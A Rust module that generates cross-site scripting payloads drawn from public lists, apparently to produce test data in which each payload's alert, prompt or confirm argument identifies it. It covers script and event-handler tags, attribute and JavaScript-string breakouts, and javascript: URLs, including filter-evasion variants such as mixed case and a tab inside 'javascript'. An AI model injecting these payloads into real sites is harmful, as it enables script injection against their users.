//! Payloads: the families of public lists, each with a call whose argument tells it from every other.

use crate::dice::Dice;

/// A call that shows that script runs.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Call {
    /// The script.
    pub script: String,
    /// What the call is given: `alert` shows it.
    pub argument: String,
}

impl Call {
    /// Draws a call. Calls without quotes can stand anywhere.
    pub(crate) fn draw(dice: &mut Dice) -> Self {
        let argument = match dice.number(0, 9) {
            0 => "1".to_owned(),
            1 => dice.number(2, 99).to_string(),
            _ => dice.number(1000, 999_999).to_string(),
        };
        let forms = [
            "alert({n})",
            "alert({n})",
            "alert({n})",
            "prompt({n})",
            "confirm({n})",
            "alert`{n}`",
            "window.alert({n})",
            "top.alert({n})",
            "(alert)({n})",
            "self.confirm({n})",
            "[{n}].find(alert)",
        ];
        let script = dice.pick(&forms).replace("{n}", &argument);
        Self { script, argument }
    }

    /// A plain call, where the form must be simple.
    pub(crate) fn plain(dice: &mut Dice) -> Self {
        let argument = dice.number(1000, 999_999).to_string();
        let name = dice.pick(&["alert", "alert", "prompt", "confirm"]);
        Self { script: format!("{name}({argument})"), argument }
    }
}

/// A payload that brings its own tags.
pub(crate) fn tags(dice: &mut Dice, call: &str) -> String {
    let forms = [
        "<script>{c}</script>",
        "<script>{c}</script>",
        "<script>{c}</script>",
        "<ScRiPt>{c}</sCrIpT>",
        "<script >{c}</script >",
        "<script type=\"text/javascript\">{c}</script>",
        "<img src=x onerror={c}>",
        "<img src=x onerror={c}>",
        "<img src=\"x\" onerror=\"{c}\">",
        "<img/src=x onerror={c}>",
        "<IMG SRC=x OnErRoR={c}>",
        "<svg onload={c}>",
        "<svg/onload={c}>",
        "<svg onload=\"{c}\"></svg>",
        "<svg><script>{c}</script></svg>",
        "<svg><animate onbegin={c} attributeName=x dur=1s>",
        "<details open ontoggle={c}>",
        "<input autofocus onfocus={c}>",
        "<select autofocus onfocus={c}></select>",
        "<iframe src=\"javascript:{c}\"></iframe>",
        "<a href=\"javascript:{c}\">click</a>",
        "<a href=javascript:{c}>here</a>",
        "<video><source onerror={c}></video>",
        "<audio src=x onerror={c}></audio>",
        "<button onclick={c}>go</button>",
        "<div onmouseover={c}>hover</div>",
        "<p onclick={c}>text</p>",
        "<b onpointerenter={c}>x</b>",
        "<body onload={c}>",
        "<x onclick={c}>y</x>",
        "<form><button formaction=javascript:{c}>send</button></form>",
        "<style>@keyframes k{}</style><i style=\"animation-name:k\" onanimationstart={c}></i>",
    ];
    dice.pick(&forms).replace("{c}", call)
}

/// A payload that ends a quoted attribute.
pub(crate) fn attribute(dice: &mut Dice, quote: char, call: &str) -> String {
    let forms = [
        "{q} onfocus={c} autofocus x={q}",
        "{q} autofocus onfocus={q}{c}",
        "{q} onmouseover={c} x={q}",
        "{q} onclick={q}{c}",
        "{q} onmouseenter={q}{c}",
        "{q}onclick={c} y={q}",
        "{q} style=display:block onpointerover={c} z={q}",
    ];
    dice.pick(&forms).replace("{q}", &quote.to_string()).replace("{c}", call)
}

/// A payload that ends an attribute and its tag.
pub(crate) fn attribute_and_tag(dice: &mut Dice, quote: char, call: &str) -> String {
    let tags = tags(dice, call);
    let close = dice.pick(&["{q}>", "{q}/>", "{q} >"]).replace("{q}", &quote.to_string());
    format!("{close}{tags}")
}

/// A payload for an attribute without quotes.
pub(crate) fn unquoted(dice: &mut Dice, call: &str) -> String {
    let forms =
        ["x onfocus={c} autofocus", "1 onmouseover={c}", "a onclick={c}", "z onpointerenter={c} b", "0\tonclick={c}"];
    dice.pick(&forms).replace("{c}", call)
}

/// A payload that ends a string of JavaScript.
pub(crate) fn string(dice: &mut Dice, quote: char, call: &str) -> String {
    let forms =
        ["{q};{c}//", "{q}-{c}-{q}", "{q}+{c}+{q}", "{q});{c}//", "{q};{c};var z={q}", "{q}||{c}||{q}", "{q}\n;{c}//"];
    dice.pick(&forms[..6]).replace("{q}", &quote.to_string()).replace("{c}", call)
}

/// A payload that fits a string inside a call, `f('...')`.
pub(crate) fn argument(dice: &mut Dice, quote: char, call: &str) -> String {
    let forms = ["{q});{c}//", "{q}-{c}-{q}", "{q}+{c}+{q}", "{q},{c},{q}"];
    dice.pick(&forms).replace("{q}", &quote.to_string()).replace("{c}", call)
}

/// A `javascript:` URL.
pub(crate) fn url(dice: &mut Dice, call: &str) -> String {
    let forms = [
        "javascript:{c}",
        "javascript:{c}",
        "JavaScript:{c}",
        "javascript:{c}//",
        "jAvAsCrIpT:{c}",
        "javascript:void({c})",
        " javascript:{c}",
        "java\tscript:{c}",
        "javascript://x%0A{c}",
    ];
    dice.pick(&forms).replace("{c}", call)
}
